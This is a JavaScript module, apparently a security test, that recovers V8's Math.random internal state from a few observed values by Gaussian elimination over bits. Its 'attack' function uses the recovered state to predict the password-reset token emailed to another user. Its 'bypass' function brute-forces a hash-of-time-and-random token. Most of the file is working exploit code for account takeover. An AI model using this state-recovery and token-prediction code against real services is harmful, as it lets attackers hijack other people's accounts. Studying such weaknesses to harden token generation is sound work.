// Asks for tokens of one's own, and computes the one that somebody else is sent.
//
// V8's Math.random() is xorshift128+ without the plus: each value is the upper bits of one of two
// 64-bit words, and every step is linear over bits. So a few values are equations for the 128 bits.
// Values are made 64 at a time and handed out last first: the next one is the one made before.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";

const MASK = (1n << 64n) - 1n;

function step([a, b]) {
  let x = a;
  x ^= (x << 23n) & MASK;
  x ^= x >> 17n;
  x ^= b ^ (b >> 26n);
  return [b, x];
}

// How the upper bits of the first word after `steps` depend on the bits of the start: one mask a bit.
function equations(steps, bits) {
  const rows = Array(bits).fill(0n);
  for (let bit = 0n; bit < 128n; bit++) {
    let state = bit < 64n ? [1n << bit, 0n] : [0n, 1n << (bit - 64n)];
    for (let count = 0; count < steps; count++) state = step(state);
    for (let row = 0; row < bits; row++) {
      if ((state[0] >> BigInt(63 - row)) & 1n) rows[row] |= 1n << bit;
    }
  }
  return rows;
}

// Gauss, over bits: the start that all equations hold for, or null.
function solved(rows) {
  const pivots = new Map();
  for (let [mask, value] of rows) {
    for (const [bit, [other, held]] of pivots) {
      if ((mask >> bit) & 1n) [mask, value] = [mask ^ other, value ^ held];
    }
    if (mask === 0n) {
      if (value) return null;
      continue;
    }
    const lead = BigInt(mask.toString(2).length - 1);
    for (const [bit, [other, held]] of pivots) {
      if ((other >> lead) & 1n) pivots.set(bit, [other ^ mask, held ^ value]);
    }
    pivots.set(lead, [mask, value]);
  }
  let start = 0n;
  for (const [bit, [, value]] of pivots) if (value) start |= 1n << bit;
  return pivots.size < 128 ? null : [start & MASK, start >> 64n];
}

const SEEN = 4;
const table = new Map([52, 53].map((bits) => [bits, Array.from({ length: SEEN }, (_, k) => equations(SEEN - k, bits))]));

// The value after these, handed out in this order; null where a new block of 64 began between them.
function next(values) {
  for (const bits of [53, 52]) {
    const rows = values.flatMap((value, index) => {
      const word = BigInt(Math.floor(value * 2 ** bits));
      return table.get(bits)[index].map((mask, row) => [mask, Number((word >> BigInt(bits - 1 - row)) & 1n)]);
    });
    const start = solved(rows);
    if (start !== null) return Number(start[0] >> BigInt(64 - bits)) / 2 ** bits;
  }
  return null;
}

// What stands behind the point of a number to the base of 36.
function read(digits) {
  let value = 0n;
  for (const digit of digits) value = value * 36n + BigInt(parseInt(digit, 36));
  return Number((value << 120n) / 36n ** BigInt(digits.length)) / 2 ** 120;
}

async function tokenSent(code, address) {
  const mails = [];
  const mailer = { remember: async () => "", send: async (to, text) => mails.push([to, text]) };
  await code.requestReset({ email: address }, mailer);
  assert.equal(mails[0][0], address);
  return mails[0][1].split("token=")[1];
}

export async function attack(code) {
  for (let attempt = 0; attempt < 8; attempt++) {
    const own = [];
    for (let count = 0; count < SEEN; count++) own.push(await tokenSent(code, "mallory@evil.example"));
    if (!own.every((token) => /^[0-9a-z]{8,14}$/.test(token))) return null;
    const expected = next(own.map(read));
    const token = await tokenSent(code, "ada@shop.example");
    if (expected !== null && expected.toString(36).slice(2) === token) {
      return "the victim's token, computed before it was sent";
    }
  }
  return null;
}

// Here tokens show hashes alone. But the program draws numbers elsewhere, too, and shows them: the
// order of a shop window, a player's dice.
export async function bypass(code) {
  for (let attempt = 0; attempt < 8; attempt++) {
    const expected = next(Array.from({ length: SEEN }, () => Math.random()));
    const before = Date.now();
    const token = await tokenSent(code, "ada@shop.example");
    for (let time = before - 500; expected !== null && time < before + 500; time++) {
      if (createHash("sha256").update(`${time}${expected}`).digest("hex") === token) {
        return "the victim's token, among a thousand guesses";
      }
    }
  }
  return null;
}

export async function use(code) {
  assert.ok((await tokenSent(code, "ada@shop.example")).length >= 8);
}
